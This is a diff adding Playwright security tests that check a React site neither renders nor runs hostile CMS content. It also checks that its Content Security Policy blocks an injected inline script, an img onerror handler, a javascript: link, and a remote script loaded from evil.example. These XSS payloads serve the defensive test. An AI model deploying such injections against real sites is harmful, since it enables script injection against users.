@@ -1,0 +1,62 @@
+import { startContent } from '../stand-ins/content.ts';
+import { HOSTILE_COMPANY, hostileEntries } from '../stand-ins/hostile.ts';
+import { expect, forget, test } from './console.ts';
+import { hydrated } from './hydrated.ts';
+import { OwnSite } from './own-site.ts';
+
+const PATHS = ['/', '/contact', '/terms', '/blogs', '/blogs/hostile', '/no-such-page'];
+
+test('hostile facts and posts run nothing and make no element, before and after React takes over', async ({
+  page,
+  consoleMessages,
+}) => {
+  const content = await startContent(hostileEntries());
+  const site = await OwnSite.start({ ...HOSTILE_COMPANY, ...content.environment });
+  try {
+    await page.addInitScript(() => {
+      Object.assign(window, { pwned: () => Object.assign(window, { wasPwned: true }) });
+    });
+    page.on('dialog', (dialog) => consoleMessages.push(`a dialog: ${dialog.message()}`));
+    for (const path of PATHS) {
+      await page.goto(site.url + path);
+      await hydrated(page);
+      if (path === '/no-such-page') forget(consoleMessages, '404');
+      expect(await page.evaluate(() => 'wasPwned' in window), path).toBe(false);
+      await expect(
+        page.locator('pwned-tag, pwned-slug, [onpwned], img[src="x"], a[href^="javascript" i], a[href^="data" i]'),
+        path,
+      ).toHaveCount(0);
+      await expect(page.locator('body')).toContainText('<pwned-tag onpwned=1>');
+    }
+    await page.goto(`${site.url}/blogs`);
+    await hydrated(page);
+    await page.locator('main a[href="/blogs/hostile"]').first().click();
+    await expect(page.locator('h1')).toContainText('<pwned-tag onpwned=1>');
+    expect(await page.evaluate(() => 'wasPwned' in window)).toBe(false);
+  } finally {
+    await site.end();
+    await content.end();
+  }
+});
+
+test('what gets into a page all the same is not run: the policy is enforced', async ({ page, consoleMessages }) => {
+  await page.goto('/about');
+  await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.textContent = 'window.wasPwned = true';
+    document.body.append(script);
+    document.body.insertAdjacentHTML(
+      'beforeend',
+      '<img src="/none.png" onerror="window.wasPwned = true"><a id="bait" href="javascript:window.wasPwned=true">x</a>',
+    );
+    document.getElementById('bait')?.click();
+    const remote = document.createElement('script');
+    remote.src = 'https://evil.example/x.js';
+    document.body.append(remote);
+  });
+  await expect
+    .poll(() => consoleMessages.filter((text) => text.includes('Content Security Policy')).length)
+    .toBeGreaterThanOrEqual(4);
+  expect(await page.evaluate(() => 'wasPwned' in window)).toBe(false);
+  forget(consoleMessages, /Content Security Policy|404/);
+});
